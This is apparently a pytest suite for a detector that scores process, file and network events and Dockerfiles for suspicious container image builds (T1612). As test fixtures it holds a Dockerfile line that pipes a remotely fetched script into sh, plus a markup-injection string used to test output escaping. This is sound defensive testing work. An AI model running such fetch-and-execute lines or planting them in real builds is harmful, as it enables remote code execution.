"""The scripts out of the zip, run as the platform runs them: good, bad and hostile input."""

from __future__ import annotations

import gzip
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .conftest import Run
from .events import ALL, BUILD, DEPLOY, EGRESS, QUIET, Event

ROOT = Path(__file__).parents[3]


def lines(events: list[Event]) -> str:
    return "\n".join(map(json.dumps, events))


def test_what_is_found_is_put_into_the_context(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=ALL)
    build, egress = outcome.context("T1612.Finding")
    (chain,) = outcome.context("T1612.Chain")

    assert outcome.context("T1612.Summary") == {
        "Source": "args",
        "Version": "0.1.1",
        "EventsScored": 4,
        "EventsSkipped": 0,
        "FindingsTotal": 2,
        "FindingsReturned": 2,
        "FindingsSuppressed": 0,
        "MaxScore": chain["Score"],
        "MaxSeverity": "high",
        "Chains": 1,
        "ChainVerdict": "build-then-deploy",
        "Verdict": "malicious",
        "TopDevice": "web-prod-07",
        "Complete": True,
        "Warning": "",
    }
    assert (build["Score"], build["Kind"], build["Device"]) == (4, "process", "web-prod-07")
    assert build["Signals"] == ["process.temp_source", "process.without_cache"]
    assert (egress["Score"], egress["RemoteIP"], egress["RemoteUrl"]) == (
        *(2, "203.0.113.7", "files.example.net"),
    )
    assert (chain["Verdict"], chain["Stages"][-1]) == ("build-then-deploy", "deploy")
    assert all(entry["IgnoreAutoExtract"] for entry in outcome.entries)


def test_the_same_event_has_the_same_id_in_every_run(run: Run) -> None:
    ids = [run("T1612ScoreEvents", events=ALL).context("T1612.Finding")[0]["ID"] for _ in "12"]

    assert len(set(ids)) == 1
    assert re.fullmatch("[0-9a-f]{16}", ids[0])


@pytest.mark.parametrize(
    ("events", "count"),
    [
        (ALL, 4),
        (json.dumps(ALL), 4),
        (lines(ALL), 4),
        (BUILD, 1),
        (json.dumps(BUILD, indent=1), 1),
        ([ALL, ALL], 8),
        ({"Results": ALL}, 4),
        ({"reply": {"results": {"data": ALL}}}, 4),
        ([{"records": ALL}], 4),
    ],
)
def test_events_come_in_every_shape(run: Run, events: Any, count: int) -> None:
    summary = run("T1612ScoreEvents", events=events).context("T1612.Summary")

    assert (summary["EventsScored"], summary["EventsSkipped"]) == (count, 0)
    assert summary["FindingsTotal"] >= 1


@pytest.mark.parametrize("is_packed", [False, True], ids=["plain", "gzip"])
def test_events_come_from_a_file(run: Run, tmp_path: Path, is_packed: bool) -> None:
    data = (lines(ALL * 100) + "\nno json\n7\n").encode()
    (tmp_path / "x").write_bytes(gzip.compress(data) if is_packed else data)
    outcome = run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, entry_id="7@1", limit="5")
    summary = outcome.context("T1612.Summary")

    assert (summary["Source"], summary["EventsScored"], summary["EventsSkipped"]) == ("7@1", 400, 2)
    assert "2 of 402 events not scored; the first: line 401: is no JSON" in summary["Warning"]
    assert "WARNING: 2 of 402 events not scored" in outcome.readable
    assert (summary["FindingsTotal"], summary["FindingsReturned"]) == (200, 2)
    # What repeats is counted.
    found = [(each["Score"], each["Count"]) for each in outcome.context("T1612.Finding")]
    assert found == [(4, 100), (2, 100)]


@pytest.mark.parametrize(
    ("args", "said"),
    [
        ({}, "T1612ScoreEvents: give either events or entry_id"),
        ({"events": ALL, "entry_id": "7@1"}, "give either events or entry_id"),
        ({"events": "docker build"}, "the first: event of line 1 is no JSON"),
        ({"events": ALL, "event_type": "all"}, "event_type is 'all'; it is one of auto, process"),
        ({"events": ALL, "profile": "x"}, "profile is 'x'; it is one of "),
        ({"events": ALL, "schema": "xdr"}, "schema is 'xdr'; it is one of auto, "),
        ({"events": ALL, "limit": "x"}, "limit is 'x'; it is a whole number"),
        (
            {"events": ALL, "ready_lists": "x"},
            "x: is no ready-made list; ready_lists are ci-agents",
        ),
        ({"events": ALL, "max_seconds": "-1"}, "max_seconds is -1; it is 0 to 86,400"),
        ({"events": ALL, "malicious_score": "0"}, "malicious_score is 0; it is 1 to 1,000"),
        ({"events": ALL, "limit": "1001"}, "limit is 1001; it is 0 to 1,000"),
        ({"events": ALL, "min_score": "-1"}, "min_score is -1; it is 0 to 1,000"),
        ({"events": ALL, "window": "99999"}, "window is 99999; it is 0 to 10,080"),
        ({"events": ALL, "correlate": "perhaps"}, "correlate is 'perhaps'; it is true or false"),
        ({"events": ALL, "allowlist": "none"}, "allowlist: there is no list 'none'"),
    ],
)
def test_a_bad_argument_is_an_error_that_names_it(
    run: Run, tmp_path: Path, args: dict[str, Any], said: str
) -> None:
    (tmp_path / "x").write_text("")

    assert said in run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, **args).error


def test_a_file_that_breaks_is_an_error(run: Run, tmp_path: Path) -> None:
    (tmp_path / "x").write_bytes(gzip.compress(lines(ALL).encode())[:-20])
    outcome = run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, entry_id="7@1")

    assert "cannot be read to its end" in outcome.error


def test_profiles_kinds_and_scores_are_as_asked_for(run: Run) -> None:
    sentinel = run("T1612ScoreEvents", events=BUILD, profile="sentinel")
    assert sentinel.context("T1612.Finding")[0]["Score"] == 6
    event = {"FileName": "Dockerfile", "FolderPath": "/dev/shm/x"}
    assert run("T1612ScoreEvents", events=event, event_type="file").context("T1612.Finding")
    summary = run("T1612ScoreEvents", events=ALL, min_score="3", correlate="false")
    assert summary.context("T1612.Summary")["FindingsTotal"] == 1
    assert summary.context("T1612.Chain") is None


ALLOWED = """
version = 1
[[entry]]
id = "web-builds"
reason = "Builds of the web team, whose directory is below /tmp."
owner = "web-team"
created = 2026-01-01
expires = 2099-01-01
kinds = ["process"]
effect = { action = "suppress" }
match = [
    { field = "host", op = "equals", value = "web-prod-07" },
    { field = "account", op = "equals", value = "root" },
]
"""


def test_an_allow_list_comes_from_a_list_of_the_platform(run: Run) -> None:
    outcome = run(
        "T1612ScoreEvents", events=ALL, allowlist="t1612", lists={"t1612": ALLOWED}, correlate="no"
    )
    summary = outcome.context("T1612.Summary")

    assert (summary["FindingsTotal"], summary["FindingsSuppressed"]) == (1, 1)
    # The event is of the day before the entry's last one, and that is over.
    ended = {"t1612": ALLOWED.replace("2099-01-01", "2026-03-03")}
    outcome = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists=ended, correlate="no")
    assert outcome.context("T1612.Summary")["FindingsSuppressed"] == 0
    broken = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists={"t1612": "x"})
    assert "T1612ScoreEvents: allowlist" in broken.error


def test_all_findings_are_attached(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=ALL * 3, limit="1", attach_all="true")
    rows = [json.loads(line) for line in outcome.lines("t1612.jsonl")]

    assert [row.get("branch") or row["verdict"] for row in rows] == [
        *(["image_build", "builder_egress"] * 3),
        "build-then-deploy",
    ]


def test_correlate(run: Run) -> None:
    outcome = run("T1612Correlate", events=ALL)

    assert [chain["Verdict"] for chain in outcome.context("T1612.Chain")] == ["build-then-deploy"]
    assert "1 of 1 chains in 4 events" in outcome.readable
    for events in ([DEPLOY], [BUILD], [BUILD, QUIET]):  # a step alone is no chain
        outcome = run("T1612Correlate", events=events)
        assert outcome.context("T1612.Chain") is None
        assert "0 of 0 chains in" in outcome.readable
    assert "window is 0" in run("T1612Correlate", events=ALL, window="0").error


CSV = b"ImageFileName,CommandLine\ndocker,docker build /tmp/x\n7\n"  # of another product
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xb8\x1a" + bytes(range(128, 256))
UNKNOWN = {"Type": "SigninLogs", "FileName": "docker", "ProcessCommandLine": "docker build /tmp/x"}
FALCON = {"ImageFileName": "docker", "CommandLine": "docker build /tmp/x"}


@pytest.mark.parametrize("script", ["T1612ScoreEvents", "T1612Correlate"])
@pytest.mark.parametrize(
    ("events", "said"),
    [
        (7, "none of 1 events can be scored; the first: event is int"),
        ([None, None], "none of 2 events can be scored; the first: event is NoneType"),
        (["docker build"], "none of 1 events can be scored; the first: event is str"),
        (CSV.decode(), "none of 2 events can be scored; the first: event is not recognised"),
        ([FALCON, 7], "none of 2 events can be scored; the first: event is not recognised"),
        (UNKNOWN, "none of 1 events can be scored; the first: event is of a kind that nothing"),
        ({**UNKNOWN, "Type": "", "ActionType": "LogonFailed"}, "is of a kind that nothing"),
        ({**BUILD, "ProcessCommandLine": 7}, "field 'command_line' is int, expected str"),
    ],
    ids=["7", "nulls", "texts", "csv", "falcon", "table", "action", "wrong type"],
)
def test_where_nothing_can_be_scored_nothing_is_said_to_be_none(
    run: Run, script: str, events: Any, said: str
) -> None:
    assert said in run(script, events=events).error


@pytest.mark.parametrize("packed", [bytes, gzip.compress], ids=["plain", "gzip"])
@pytest.mark.parametrize(
    "data",
    [CSV, ZIP, b"\x93\xf1\x00\n" * 99, b'"docker build"\n'],
    ids=["csv", "zip", "any", "text"],
)
def test_a_file_of_something_else_is_an_error(
    run: Run, tmp_path: Path, data: bytes, packed: Callable[[bytes], bytes]
) -> None:
    (tmp_path / "x").write_bytes(packed(data))
    for script in ("T1612ScoreEvents", "T1612Correlate"):
        said = run(script, files={"7@1": tmp_path / "x"}, entry_id="7@1").error
        known = (
            "events can be scored; the first: ",
            "archive",
        )
        assert any(each in said for each in known)
        assert "docker build" not in said


def test_an_event_that_has_nothing_of_its_kind_is_not_scored(run: Run) -> None:
    for kind in ("process", "file", "network"):
        said = run("T1612ScoreEvents", events=[FALCON], event_type=kind).error
        assert f"has none of the fields of a {kind} event" in said


def test_rows_of_other_tables_are_counted_as_not_scored(run: Run) -> None:
    summary = run("T1612ScoreEvents", events=[UNKNOWN, BUILD, QUIET]).context("T1612.Summary")

    assert (summary["EventsScored"], summary["EventsSkipped"]) == (2, 1)
    assert summary["Verdict"] == "suspicious"


ENVELOPE: Event = {"category": "AdvancedHunting-DeviceProcessEvents", "properties": BUILD}


@pytest.mark.parametrize("event", [BUILD, ENVELOPE], ids=["columns", "envelope"])
@pytest.mark.parametrize("key", ["results", "Results", "records", "value", "data", "reply"])
@pytest.mark.parametrize("held", [[], [7, None], [{"a": 1}], {}, {"a": 1}, "x", None], ids=str)
def test_what_an_event_holds_besides_swallows_nothing(
    run: Run, event: Event, key: str, held: Any
) -> None:
    summary = run("T1612ScoreEvents", events={**event, key: held}).context("T1612.Summary")

    assert (summary["EventsScored"], summary["EventsSkipped"]) == (1, 0)
    assert summary["MaxScore"] == 4


def test_all_that_an_answer_holds_is_read(run: Run) -> None:
    for answer in (
        {"results": [], "value": [BUILD], "data": [DEPLOY], "count": 2},
        {"count": 2, "data": [[BUILD], DEPLOY]},
    ):
        summary = run("T1612ScoreEvents", events=answer).context("T1612.Summary")
        assert (summary["EventsScored"], summary["EventsSkipped"]) == (2, 0)


LINE = BUILD["ProcessCommandLine"]
ECS: Event = {
    "@timestamp": "2026-03-02T08:06:43Z",
    "event": {"category": ["process"], "type": ["start"]},
    "host": {"name": "web-prod-07"},
    "user": {"name": "root"},
    "process": {"name": "docker", "command_line": LINE, "parent": {"name": "bash"}},
}
XDR: Event = {
    "_time": 1772438803000,
    "agent_hostname": "web-prod-07",
    "event_type": "ENUM.PROCESS",
    "actor_process_image_name": "bash",
    "action_process_image_name": "docker",
    "action_process_image_command_line": LINE,
}
CIM: Event = {
    "_time": "2026-03-02T08:06:43Z",
    "dest": "web-prod-07",
    "user": "root",
    "process_name": "docker",
    "process": LINE,
    "parent_process_name": "bash",
}
QRADAR: Event = {
    "starttime": 1772438803000,
    "Machine Identifier": "web-prod-07",
    "username": "root",
    "Process Path": "/usr/bin/docker",
    "Command": LINE,
    "Parent Process Name": "bash",
}
BEHAVIOUR: Event = {
    "filename": "docker",
    "cmdline": LINE,
    "user_name": "root",
    "parent_details": {"parent_cmdline": "bash"},
}
TABLE = {
    "name": "PrimaryResult",
    "columns": [{"name": key, "type": "string"} for key in BUILD],
    "rows": [list(BUILD.values())],
}
NEIGHBOURS: dict[str, Any] = {
    "AzureLogAnalytics.SearchResults": [{"TableName": "PrimaryResult", "Data": [BUILD]}],
    "Azure Log Analytics, tables": {"tables": [TABLE]},
    "Elasticsearch.Search.Results": {
        "Server": "x",
        "Index": "logs",
        "Query": "*",
        "total": {"value": 1},
        "Results": [{"_index": "logs", "_id": "1", "_source": ECS}],
    },
    "Elasticsearch, hits": {"took": 3, "hits": {"hits": [{"_source": ECS}]}},
    "XDR, XQL": {"reply": {"status": "SUCCESS", "results": {"data": [XDR]}}},
    "XQL.GenericQuery": {"query_id": "1", "status": "SUCCESS", "results": [XDR]},
    "XDR, alerts": [{"alert_id": "1", "host_name": "web-prod-07", **XDR}],
    "Splunk.Result, CIM": [CIM],
    "Splunk, search": {"results": [{**CIM, "sourcetype": "x", "_raw": "x"}], "preview": False},
    "QRadar.Search.Result": {"events": [QRADAR]},
    "MicrosoftATP.Hunt.Result": [BUILD],
    "Defender, advanced hunting": {"Schema": [], "Results": [BUILD]},
    "Graph, hunting query": {"schema": [{"name": "FileName"}], "results": [BUILD]},
    "CrowdStrike, alerts": [
        {**BEHAVIOUR, "composite_id": "1", "device": {"hostname": "web-prod-07"}}
    ],
    "CrowdStrike, cmdLine": [
        {"cmdLine": LINE, "fileName": "docker", "sourceHostName": "web-prod-07"}
    ],
    "CrowdStrike, detections": [{"device": {"hostname": "web-prod-07"}, "behaviors": [BEHAVIOUR]}],
    "texts in a list": [json.dumps(BUILD), json.dumps(QUIET)],
    "CSV": ",".join(BUILD) + "\n" + ",".join(f'"{each}"' for each in BUILD.values()) + "\n",
}


@pytest.mark.parametrize("name", NEIGHBOURS)
def test_what_a_neighbour_gives_is_read_whole(run: Run, name: str) -> None:
    for script in ("T1612ScoreEvents", "T1612Correlate"):
        outcome = run(script, events=NEIGHBOURS[name])
        assert "not scored" not in outcome.readable
    outcome = run("T1612ScoreEvents", events=NEIGHBOURS[name])
    (finding,) = outcome.context("T1612.Finding")
    assert (finding["Device"], finding["Detail"]) == ("web-prod-07", LINE)
    assert outcome.context("T1612.Summary")["TopDevice"] == "web-prod-07"


def nested(depth: int) -> Any:
    made: Any = []
    for _ in range(depth):
        made = [made]
    return made


@pytest.mark.parametrize("depth", [2_500, 90_000])
def test_an_event_that_is_nested_deeply_costs_no_other(
    run: Run, tmp_path: Path, depth: int
) -> None:
    deep = {**BUILD, "AdditionalFields": nested(depth)}
    summary = run("T1612ScoreEvents", events=[BUILD, deep, EGRESS])
    found = [(each["Count"], each["Score"]) for each in summary.context("T1612.Finding")]
    assert found == [(2, 4), (1, 2)]
    ids = {
        run("T1612ScoreEvents", events=event).context("T1612.Finding")[0]["ID"]
        for event in (deep, deep, BUILD)
    }
    assert len(ids) == 2
    assert run("T1612Score", value=[BUILD, deep, EGRESS]).entries == [4, 4, 2]

    text = f'{json.dumps(BUILD)[:-1]}, "AdditionalFields": {"[" * depth}{"]" * depth}}}'
    text = f"[{json.dumps(BUILD)}, {text}, {json.dumps(EGRESS)}]"
    (tmp_path / "x").write_text(text)
    for given in ({"events": text}, {"entry_id": "7@1"}):
        summary = run("T1612ScoreEvents", files={"7@1": tmp_path / "x"}, **given).context(
            "T1612.Summary"
        )
        assert summary["EventsScored"] + summary["EventsSkipped"] == 3
        assert summary["FindingsTotal"] == summary["EventsScored"] >= 2


def test_what_is_none_of_jsons_is_no_matter(run: Run) -> None:
    event = {**BUILD, "AdditionalFields": {1: 2, "a": object, (3,): 4}}
    ids = [run("T1612ScoreEvents", events=event).context("T1612.Finding")[0]["ID"] for _ in "12"]

    assert len(set(ids)) == 1


def test_fifty_places_hold_fifty_different_findings(run: Run) -> None:
    again = [
        {**BUILD, "TimeGenerated": f"2026-03-02T{at // 60:02}:{at % 60:02}:00Z"} for at in range(60)
    ]
    others = [{**EGRESS, "DeviceName": f"db-{at}"} for at in range(60)]
    for events in ([*again, *others], [*others, *again], [*again, *others, *again]):
        outcome = run("T1612ScoreEvents", events=events, correlate="false")
        found = outcome.context("T1612.Finding")

        assert len({each["ID"] for each in found}) == len({each["Device"] for each in found}) == 50
        assert (found[0]["Device"], found[0]["Count"]) == ("web-prod-07", len(events) - 60)
        assert outcome.context("T1612.Summary")["FindingsTotal"] == len(events)


def test_a_run_that_takes_too_long_gives_what_it_has_and_says_so(run: Run) -> None:
    run("T1612Score", value=BUILD)  # it imports the library
    survey: Any = sys.modules["t1612core.summary.survey"]
    made, ticks = survey._Pass, iter(range(10**9))
    survey._Pass = lambda *given: made(*given[:-1], lambda: float(next(ticks)))
    try:
        some = run("T1612ScoreEvents", events=[QUIET, BUILD] * 200, max_seconds="100")
        none = run("T1612ScoreEvents", events=[QUIET] * 200, max_seconds=100)
        chains = run("T1612Correlate", events=[QUIET] * 200, max_seconds=100)
    finally:
        survey._Pass = made
    summary = some.context("T1612.Summary")
    assert (summary["Complete"], summary["Verdict"]) == (False, "suspicious")
    for outcome in (some, none, chains):
        assert "time was over after 60 events; what follows was not read" in outcome.readable
    assert none.context("T1612.Summary")["Verdict"] == "unknown"


@pytest.mark.parametrize("zero", ["0", 0, 0.0])
def test_nought_is_nought(run: Run, zero: Any) -> None:
    low = [{**BUILD, "InitiatingProcessFileName": "make"}, BUILD]
    found = run("T1612ScoreEvents", events=low, min_score=int(zero)).context("T1612.Summary")
    assert found["FindingsTotal"] >= 1
    outcome = run("T1612ScoreEvents", events=ALL, limit=int(zero), window=int(zero))
    summary = outcome.context("T1612.Summary")
    assert (summary["FindingsTotal"], summary["FindingsReturned"], summary["Chains"]) == (2, 0, 0)


def test_no_events_are_unknown(run: Run) -> None:
    for events in ([], "[]", {"results": []}):
        summary = run("T1612ScoreEvents", events=events).context("T1612.Summary")
        assert (summary["Verdict"], summary["Warning"]) == ("unknown", "there were no events")


def test_several_entries_are_one_run(run: Run, tmp_path: Path) -> None:
    files = {}
    for at, events in enumerate(([BUILD], [EGRESS, {"a": 1}], [DEPLOY])):
        files[f"{at}@1"] = tmp_path / str(at)
        files[f"{at}@1"].write_text(lines(events))
    for ids in ("0@1, 1@1,2@1", ["0@1", "1@1", "2@1"]):
        summary = run("T1612ScoreEvents", files=files, entry_id=ids).context("T1612.Summary")
        assert (summary["EventsScored"], summary["EventsSkipped"], summary["Chains"]) == (3, 1, 1)
        assert summary["Source"] == "0@1,1@1,2@1"
        assert "1 of 1 chains" in run("T1612Correlate", files=files, entry_id=ids).readable


def test_ready_made_lists_apply(run: Run) -> None:
    agent = {
        **BUILD,
        "DeviceName": "fv-az1-2",
        "AccountName": "runner",
        "FolderPath": "/usr/bin/docker",
        "InitiatingProcessFileName": "Runner.Worker",
        "ProcessCommandLine": "docker build -t app:1 /home/runner/work/app/app/tmp/.x",
    }
    for lists in ("ci-agents", "ci-agents,container-scanners", ["ci-agents"]):
        outcome = run("T1612ScoreEvents", events=[agent, BUILD], ready_lists=lists)
        assert outcome.context("T1612.Summary")["FindingsTotal"] == 1


def test_contents_hold_the_data(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=ALL)
    for entry in outcome.entries:
        (held,) = entry["EntryContext"].values()
        assert entry["Contents"] == held


def test_correlate_takes_the_kind_and_the_least_score(run: Run) -> None:
    score = run("T1612Correlate", events=ALL).context("T1612.Chain")[0]["Score"]
    above = run("T1612Correlate", events=ALL, min_score=score + 1)
    assert above.context("T1612.Chain") is None
    assert "0 of 0 chains" in run("T1612Correlate", events=ALL, event_type="file").readable


def test_a_lone_alert_is_no_chain(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=[BUILD, QUIET])

    assert outcome.context("T1612.Chain") is None
    summary = outcome.context("T1612.Summary")
    assert (summary["Chains"], summary["Verdict"], summary["ChainVerdict"]) == (0, "suspicious", "")


def test_correlate_takes_what_its_sibling_takes(run: Run) -> None:
    lists = {"t1612": ALLOWED}
    told = run("T1612Correlate", events=ALL).context("T1612.Chain")[0]
    spared = run("T1612Correlate", events=ALL, allowlist="t1612", lists=lists)
    both = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists=lists)

    assert spared.context("T1612.Chain") == both.context("T1612.Chain") != [told]
    for args, said in (
        ({"allowlist": "none"}, "T1612Correlate: allowlist: there is no list 'none': Item not"),
        ({"allowlist": "t1612"}, "T1612Correlate: allowlist"),
        ({"schema": "xdr"}, "T1612Correlate: schema is 'xdr'; it is one of auto, "),
    ):
        assert said in run("T1612Correlate", events=ALL, lists={"t1612": "x"}, **args).error


def test_the_transformer_gives_the_score_of_each_event(run: Run) -> None:
    events = [BUILD, None, UNKNOWN, {"a": 1}, QUIET, 7, EGRESS]

    assert run("T1612Score", value=events).entries == [4, -1, -1, -1, 0, -1, 2]
    assert run("T1612Score", value=json.dumps(events)).entries == [4, -1, -1, -1, 0, -1, 2]


@pytest.mark.parametrize(
    ("value", "score"), [(BUILD, 4), (json.dumps(EGRESS), 2), ([QUIET], 0)], ids=str
)
def test_the_transformer(run: Run, value: Any, score: int) -> None:
    assert run("T1612Score", value=value).entries == [score]


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("x", "is no JSON"),
        ({"a": 1}, "none of 1 events can be scored; the first: event is not recognised"),
        (7, "none of 1 events can be scored; the first: event is int"),
        ([None, 7], "none of 2 events can be scored; the first: event is NoneType"),
        (UNKNOWN, "none of 1 events can be scored; the first: event is of a kind that"),
    ],
)
def test_the_transformer_says_what_is_wrong(run: Run, value: Any, said: str) -> None:
    assert said in run("T1612Score", value=value).error


def test_what_cannot_be_scored_has_a_default(run: Run) -> None:
    events = [BUILD, None, {"a": 1}]
    assert run("T1612Score", value=events, default="0").entries == [4, "0", "0"]
    assert run("T1612Score", value={"a": 1}, default="none").entries == ["none"]
    for nothing in (None, ""):
        assert run("T1612Score", value=nothing).entries == [-1]
        assert run("T1612Score", value=nothing, default="0").entries == ["0"]
    assert run("T1612Score", value=[]).entries == []


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (gzip.compress(b"FROM a"), "entry_id is packed with gzip"),
        (b"FROM a\0", "the Dockerfile is empty, or no text"),
        (b"FROM \xff\xfe", "entry_id is no text in UTF-8"),
        (b" \n", "the Dockerfile is empty"),
        (b"FROM a\n" * 200_000, "the Dockerfile is longer than 1,048,576 bytes"),
    ],
    ids=["gzip", "binary", "latin", "empty", "long"],
)
def test_what_is_no_dockerfile_is_an_error(
    run: Run, tmp_path: Path, data: bytes, said: str
) -> None:
    (tmp_path / "x").write_bytes(data)
    files = {"7@1": tmp_path / "x"}

    assert said in run("T1612ScoreDockerfile", files=files, entry_id="7@1").error


def test_a_dockerfile(run: Run, tmp_path: Path) -> None:
    content = "FROM alpine\nRUN curl -s http://198.51.100.7/i.sh | sh\n"
    (tmp_path / "x").write_text(content)
    for args in ({"content": content}, {"entry_id": "7@1", "files": {"7@1": tmp_path / "x"}}):
        found = run("T1612ScoreDockerfile", **args).context("T1612.Dockerfile")  # type: ignore[arg-type]
        assert (found["IsFinding"], found["Evidence"][0]["Line"]) == (True, 2)
        assert found["Signals"] == ["dockerfile.unprotected_run", "dockerfile.address_source"]
    assert "give either content or one entry_id" in run("T1612ScoreDockerfile").error


HOSTILE = (
    "![x](http://h.example/p.png) www.h.example [a](http://h.example) "
    "<img src=x> | `id` \n# \u202egpj"
)


def test_texts_of_events_show_themselves_and_nothing_else(run: Run) -> None:
    event = {**BUILD, "DeviceName": HOSTILE, "AccountName": HOSTILE}
    event["ProcessCommandLine"] = f"docker build /tmp/x -t '{HOSTILE}'"
    readable = run("T1612ScoreEvents", events=[event, DEPLOY]).readable
    cells = [line for line in readable.splitlines() if "gpj" in line]

    assert cells
    for line in cells:
        assert len(re.findall(r"(?<!\\)\|", line)) in (8, 9, 10, 13)
        assert not re.search(r"(?<!\\)[\[\]<>`!#]", line)
        assert not re.search(r"(?<!\\)://|www(?<!\\)\.", line)
        assert "\u202e" not in line


@pytest.mark.parametrize("text", ["", "[x](y)" * 500, "\u202e" * 3_000, "é" * 3_000])
def test_fifty_findings_are_below_eighty_kilobytes_whatever_they_say(run: Run, text: str) -> None:
    """They stand there three times: as data, in the context, and to be read."""
    event = {**BUILD, "ProcessCommandLine": BUILD["ProcessCommandLine"] + " " + text}
    event |= {"AccountName": "root" + text}
    events = [{**event, "DeviceName": f"web{at}{text}"} for at in range(60)]
    outcome = run("T1612ScoreEvents", events=events)

    assert outcome.context("T1612.Summary")["FindingsReturned"] == 50
    for entry in outcome.entries:
        assert len(json.dumps(entry, ensure_ascii=False).encode()) < 80_000


def test_a_finding_alone_has_its_texts_whole(run: Run) -> None:
    event = {**BUILD, "ProcessCommandLine": BUILD["ProcessCommandLine"] + " x" * 80}
    (finding,) = run("T1612ScoreEvents", events=event).context("T1612.Finding")

    assert finding["Detail"] == event["ProcessCommandLine"]


LIBRARY = """
import json, sys
import t1612core
assert "embedded" not in t1612core.__spec__.origin
events = map(json.loads, open(sys.argv[1], encoding="utf-8"))
found = t1612core.Detector().scan(events)
print(json.dumps([(each.score, each.detail) for each in found]))
"""


@pytest.mark.parametrize("name", ["attack.jsonl", "validation-tests.jsonl", "labelled.jsonl"])
def test_results_are_those_of_the_library(run: Run, name: str) -> None:
    """In a process of its own, which has the library as it is in the repository."""
    path = ROOT / "examples" / name
    done = subprocess.run(
        [sys.executable, "-c", LIBRARY, str(path)],
        env={"PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        text=True,
        check=True,
    )
    expected = json.loads(done.stdout)
    outcome = run("T1612ScoreEvents", events=path.read_text("utf-8"), limit="1000")
    found = outcome.context("T1612.Finding")

    assert expected
    assert sorted([each["Score"], each["Detail"]] for each in found) == sorted(expected)


def test_a_second_run_imports_nothing_anew(run: Run) -> None:
    run("T1612Score", value=BUILD)
    first = sys.modules["t1612core"]
    run("T1612ScoreEvents", events=ALL)

    assert sys.modules["t1612core"] is first
    assert str(first.__spec__.origin) == "<embedded t1612core>"  # type: ignore[union-attr]
